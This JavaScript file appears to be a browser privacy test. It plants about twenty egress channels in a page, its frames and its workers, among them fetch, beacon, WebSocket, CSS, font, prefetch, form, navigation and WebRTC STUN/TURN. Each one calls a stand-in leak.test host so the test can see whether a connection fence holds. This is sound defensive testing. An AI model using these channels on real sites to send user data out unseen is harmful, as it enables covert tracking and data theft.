// Ways out of a page, planted on purpose: a test of privacy that sees none of them sees nothing.
//
// Each is tried with a name of its own, NAME.leak.test. `port` is that of the sinks (wire.mjs), for WebRTC's STUN.
const domain = 'leak.test';

async function gather(window, server) {
  const peer = new window.RTCPeerConnection({ iceServers: [server] });
  peer.createDataChannel('planted');
  await peer.setLocalDescription(await peer.createOffer());
}

/** Run in a page: from the document itself, and from a frame that was not there when the page's fences were put up. */
const ofDocument = {
  fetch: host => void fetch(`http://${host}/`, { method: 'POST', body: 'x', mode: 'no-cors' }).catch(() => {}),
  image: host => void (new Image().src = `http://${host}/`),
  beacon: host => void navigator.sendBeacon(`http://${host}/`, 'x'),
  socket: host => void new WebSocket(`ws://${host}/`),
  events: host => void new EventSource(`http://${host}/`),
  style: host => {
    const element = document.body.appendChild(document.createElement('div'));
    element.style.backgroundImage = `url(http://${host}/)`;
  },
  font: host => void new FontFace('planted', `url(http://${host}/)`).load().catch(() => {}),
  audio: host => new Audio(`http://${host}/`).load(),
  'dns-prefetch': host => void Object.assign(document.head.appendChild(document.createElement('link')), { rel: 'dns-prefetch', href: `http://${host}/` }),
  preconnect: host => void Object.assign(document.head.appendChild(document.createElement('link')), { rel: 'preconnect', href: `http://${host}/` }),
  prefetch: host => void Object.assign(document.head.appendChild(document.createElement('link')), { rel: 'prefetch', href: `http://${host}/` }),
  frame: host => void (document.body.appendChild(document.createElement('iframe')).src = `http://${host}/`),
  form: host => {
    document.body.appendChild(document.createElement('iframe')).name = 'inside';
    const form = document.body.appendChild(document.createElement('form'));
    Object.assign(form, { action: `http://${host}/`, method: 'post', target: 'inside' }).submit();
  },
  popup: host => void open(`http://${host}/`, '_blank', 'noopener'),
  'frame-fetch': host => void document.body.appendChild(document.createElement('iframe')).contentWindow.fetch(`http://${host}/`).catch(() => {}),
  'frame-socket': host => void new (document.body.appendChild(document.createElement('iframe')).contentWindow.WebSocket)(`ws://${host}/`),
  rtc: (host, port) => gather(window, { urls: `stun:${host}:${port}` }),
  navigation: host => void (location.href = `http://${host}/`),
};
/** In a tab of its own: where a Connection-Allowlist holds, Chromium 156 ends a page that tries this. */
const inOtherTab = {
  'frame-rtc': (host, port) =>
    gather(document.body.appendChild(document.createElement('iframe')).contentWindow, { urls: `turn:${host}:${port}`, username: 'a', credential: 'b' }),
};
const ofWorker = {
  fetch: host => void fetch(`http://${host}/`, { method: 'POST', body: 'x', mode: 'no-cors' }).catch(() => {}),
  socket: host => void new WebSocket(`ws://${host}/`),
};

const hostOf = (where, name) => `${[...(where ? [where] : []), name].join('-')}.${domain}`;
const inDocument = { ...ofDocument, ...inOtherTab };
// The requests of STUN and TURN carry no name, and differ in size (RFC 8489, section 5; RFC 8656, section 7.2).
const datagrams = { rtc: 'udp reached a sink: 20 bytes', 'frame-rtc': 'udp reached a sink: 28 bytes' };
/** Every name, and what a contact with it looks like. */
export const planted = new Map([
  ...Object.keys(inDocument).map(name => [hostOf('', name), datagrams[name] ?? hostOf('', name)]),
  ...['worker', 'service'].flatMap(where => Object.keys(ofWorker).map(name => [hostOf(where, name), hostOf(where, name)])),
]);

/** Tries every way out; what throws was held back. The page has a worker and a service worker. */
export async function leak(page, port) {
  const address = page.url();
  for (const [where, workers] of [['worker', page.workers()], ['service', page.context().serviceWorkers()]]) {
    if (workers.length === 0) throw new Error(`There is no ${where} to leak from.`);
    for (const [name, way] of Object.entries(ofWorker)) await attempt(workers[0], way, hostOf(where, name), port);
  }
  for (const [name, way] of Object.entries(ofDocument)) await attempt(page, way, hostOf('', name), port);
  for (const [name, way] of Object.entries(inOtherTab)) {
    const tab = await page.context().newPage();
    await tab.goto(address);
    await attempt(tab, way, hostOf('', name), port);
  }
}

const HELD_MS = 5000; // a page that the browser has ended answers no more

async function attempt(target, way, host, port) {
  const tried = target.evaluate(`{ ${gather}; (${way})(${JSON.stringify(host)}, ${port}); }`).catch(() => {});
  await Promise.race([tried, new Promise(later => setTimeout(later, HELD_MS))]);
}
